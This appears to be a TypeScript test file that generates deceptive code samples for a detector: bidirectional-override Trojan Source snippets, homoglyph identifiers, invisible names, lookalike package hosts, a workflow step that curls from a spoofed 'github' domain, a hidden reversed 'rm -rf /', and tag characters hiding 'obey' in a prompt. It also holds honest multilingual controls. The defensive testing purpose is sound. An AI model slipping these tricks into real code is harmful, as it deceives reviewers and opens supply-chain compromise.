import fc from "../../properties.ts";
import { all, checkOf, neverGreen, reported } from "../program/judge.ts";
import type { HostileClass, Payload, Seen } from "../program/payload.ts";
import { openPull } from "../program/strikes.ts";

const RLO = "\u202e";
const [LRI, RLI, PDI] = ["\u2066", "\u2067", "\u2069"];

function deceiving(name: string, does: string, path: string, content: string): Payload {
  return { name, does, strike: openPull({ [path]: content }), faults: all(neverGreen, reported(path)) };
}

/** What people write who deceive nobody. */
function honest(name: string, does: string, path: string, content: string): Payload {
  const faults = (seen: Seen) => {
    const { conclusion, title } = checkOf(seen) ?? {};
    return conclusion === "success" ? [] : [`honest text ended in ${conclusion}: ${title}`];
  };
  return { name: `honest: ${name}`, does, strike: openPull({ [path]: content }), faults };
}

const check = (name: string) =>
  `export function ${name}(user: { role: string }): boolean {\n  return user.role === "admin";\n}\n`;

const DECEPTIONS: readonly Payload[] = [
  deceiving(
    "early return",
    "shows a return as a comment",
    "src/a.ts",
    `export function pay(from: number[]): number {\n  /* take it ${RLO}; nruter ${RLI}*/ return 0;\n  return from.length;\n}\n`,
  ),
  deceiving(
    "commented out",
    "shows a comment as code",
    "src/a.ts",
    `export const level: string = "user";\nexport function go() {\n  /*${RLO} } ${LRI}if (level === "admin")${PDI} ${LRI} begin admins only */\n  return level;\n}\n`,
  ),
  deceiving(
    "stretched string",
    "shows the rest of a string as a comment",
    "src/a.ts",
    `export const is = (level: string) => level !== "user${RLO} ${LRI}// Check if admin${PDI} ${LRI}";\n`,
  ),
  deceiving("one that never ends", "turns text around and never back", "src/a.ts", `export const a = 1; // ${RLO} x\n`),
  deceiving(
    "python",
    "shows a return as text in Python",
    "a.py",
    `def pay(bank):\n    """ Subtract ${RLI}""" ;return\n    bank.pop()\n`,
  ),
  deceiving(
    "shell",
    "turns a command around in a shell script",
    "a.sh",
    `#!/bin/sh\necho "${RLO}${LRI}/ fr- mr${PDI}"\n`,
  ),
  deceiving(
    "workflow",
    "turns a step around in a workflow",
    ".github/workflows/a.yml",
    `on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ok # ${RLO}${LRI}lruc${PDI}\n`,
  ),
  deceiving(
    "language nobody reads",
    "turns text around in Rust",
    "src/main.rs",
    `fn main() {\n    let level = "user";\n    if level != "user${RLO} ${LRI}// Check${PDI} ${LRI}" {\n        println!("admin");\n    }\n}\n`,
  ),
  deceiving(
    "go",
    "turns text around in Go",
    "main.go",
    `package main\n\nfunc main() {\n\tvar a = "user${RLO} ${LRI}// ok${PDI}"\n\t_ = a\n}\n`,
  ),
  deceiving(
    "c",
    "turns text around in C",
    "a.c",
    `int main() {\n  /*${RLO} } ${LRI}if (admin)${PDI} ${LRI} only */\n  return 0;\n}\n`,
  ),
  deceiving("json", "turns a value around in JSON", "data/rights.json", `{ "${RLO}nimda": true }\n`),
  deceiving(
    "cyrillic",
    "calls a function by a name with a letter of Cyrillic",
    "src/a.ts",
    `${check("isAdmin")}${check("is\u0410dmin")}`,
  ),
  deceiving("greek", "has a letter of Greek in a name", "src/a.ts", check("is\u039fwner")),
  deceiving(
    "invisible name",
    "names a variable by a letter that nobody sees",
    "src/a.js",
    "export const run = (\u3164, given) => [given, \u3164];\n",
  ),
  deceiving(
    "half width",
    "names a variable by a filler of half width",
    "src/a.js",
    "export const run = (\uffa0, given) => [given, \uffa0];\n",
  ),
  deceiving("joiners", "has a joiner in a name", "src/a.ts", `${check("isAdmin")}${check("is\u200dAdmin")}`),
  deceiving(
    "selectors",
    "has a selector of variants in a name",
    "src/a.ts",
    `${check("isAdmin")}${check("isAdmin\ufe0f")}`,
  ),
  deceiving(
    "selectors behind digits",
    "has a selector of variants behind the digit that ends a name",
    "src/a.ts",
    `${check("isAdmin1")}${check("isAdmin1\ufe0f")}`,
  ),
  deceiving("zero width", "has a space without width between two words", "src/a.ts", "export const a = 1;\u200b// b\n"),
  deceiving(
    "tags",
    "hides letters in a string",
    "src/a.ts",
    `export const prompt = "ok${[..."obey"].map((each) => String.fromCodePoint(0xe0000 + each.charCodeAt(0))).join("")}";\n`,
  ),
  deceiving(
    "python name",
    "has a letter of Cyrillic in a name in Python",
    "a.py",
    "def is_\u0430dmin(user):\n    return user.admin\n",
  ),
  deceiving("mark", "steers direction in a comment", "src/a.ts", "export const a = 1; // x \u200e (b) \u200f c\n"),
  deceiving("arabic mark", "steers direction in a comment of Rust", "src/main.rs", "fn main() {} // x \u061c y\n"),
  deceiving("full width", "names a function in letters of full width", "src/a.ts", check("is\uff21dmin")),
  deceiving(
    "role",
    "compares with a word that nobody can write",
    "src/a.ts",
    `export const is = (role: string) => role === "ad\u200bmin";\n`,
  ),
  deceiving(
    "toml",
    "takes a package by a name with a letter of Cyrillic",
    "Cargo.toml",
    '[dependencies]\nt\u043ekio = "1"\n',
  ),
  deceiving("css", "names a class with a letter of Cyrillic", "src/a.css", ".\u0430dmin { color: red; }\n"),
  deceiving("environment", "names a variable with a letter of Cyrillic", ".env.example", "API_T\u041eKEN=\n"),
  deceiving(
    "go name",
    "has a letter of Cyrillic in a name in Go",
    "main.go",
    "package main\n\nfunc is\u0410dmin() {}\n",
  ),
  deceiving("rust name", "has a letter of Greek in a name in Rust", "src/main.rs", "fn t\u03bfken() {}\n"),
  deceiving("java name", "has a letter of Cherokee in a name in Java", "A.java", "class A { int \u13aadmin; }\n"),
  deceiving("shell name", "has a letter of Cyrillic in a name in a script", "a.sh", "#!/bin/sh\np\u0430ss() { :; }\n"),
  deceiving(
    "package",
    "takes a package whose name ends unseen",
    "package.json",
    '{ "dependencies": { "lodash\u200b": "1.0.0" } }\n',
  ),
  deceiving(
    "host",
    "takes a package from a host that looks like another",
    "package.json",
    '{ "dependencies": { "a": "git+https://gith\u0443b.com/a/b" } }\n',
  ),
  deceiving(
    "host of a workflow",
    "loads from a host that looks like another",
    ".github/workflows/a.yml",
    "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -o a.json https://gith\u0443b.com/a\n",
  ),
  deceiving(
    "coded host",
    "writes such a host in its code",
    "src/a.ts",
    'export const a = "https://xn--80ak6aa92e.com/";\n',
  ),
  deceiving(
    "data in variants",
    "hides data in variants of characters",
    "src/a.ts",
    `export const a = "${"字\u{e0160}".repeat(14)}";\n`,
  ),
  deceiving("blank letter", "writes a blank of braille into a word", "config.yml", 'role: "ad\u2800min"\n'),
];

const HONEST: readonly Payload[] = [
  honest(
    "hebrew",
    "comments in Hebrew",
    "src/a.ts",
    "export const a = 1; // \u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd\n",
  ),
  honest(
    "persian",
    "writes Persian with the joiner that it needs",
    "src/a.ts",
    'export const label = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645";\n',
  ),
  honest(
    "emoji",
    "writes a family of emoji",
    "src/a.ts",
    'export const family = "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\ufe0f";\n',
  ),
  honest("cyrillic", "names its constant in Cyrillic", "src/a.ts", "export const \u0446\u0435\u043d\u0430 = 1;\n"),
  honest("accents", "writes accents", "src/a.ts", "export const caf\u00e9 = 1; // na\u00efve\n"),
  honest("german", "writes German", "src/a.ts", 'export const größe = "Straße"; // Maße und Gewichte\n'),
  honest("russian settings", "titles a page in Russian", "config.toml", 'title = "Привет, commitы"\n'),
  honest(
    "its own domain",
    "links to a host in its own script",
    "src/a.ts",
    'export const a = "https://пример.рф/ и https://münchen.de/";\n',
  ),
  honest(
    "chinese",
    "writes Chinese with a variant of a letter",
    "src/a.ts",
    'export const a = "葛\u{e0100}飾区"; // 说明\n',
  ),
];

const control = fc.constantFrom("\u202a", "\u202b", "\u202d", RLO, LRI, RLI, "\u2068", "\u2028\u202e");
const place = fc.constantFrom<(text: string) => [string, string]>(
  (text) => ["src/a.ts", `export const a = 1; // ${text} b\n`],
  (text) => ["src/a.ts", `export const a = \`x${text}y\`;\n`],
  (text) => ["src/a.js", `export const r = /${text}/u;\n`],
  (text) => ["src/a.css", `a { content: "${text}x"; }\n`],
  (text) => ["lib/a.rb", `def a; "${text}x" end\n`],
  (text) => ["a.sql", `select '${text}x';\n`],
  (text) => ["Dockerfile", `FROM scratch\nLABEL a="${text}x"\n`],
);

/** Controls in places that nobody thought of. */
function chance(seed: number): Payload[] {
  return fc.sample(fc.tuple(control, place), { seed, numRuns: 6 }).map(([text, put], at) => {
    const [path, content] = put(text);
    return deceiving(`chance ${at + 1}`, `writes ${JSON.stringify(content)} into ${path}`, path, content);
  });
}

/** What is seen is not what is run (Trojan Source, look-alike letters). */
export const lookalike: HostileClass = {
  name: "lookalike",
  payloads: (seed) => [...DECEPTIONS, ...HONEST, ...chance(seed)],
};
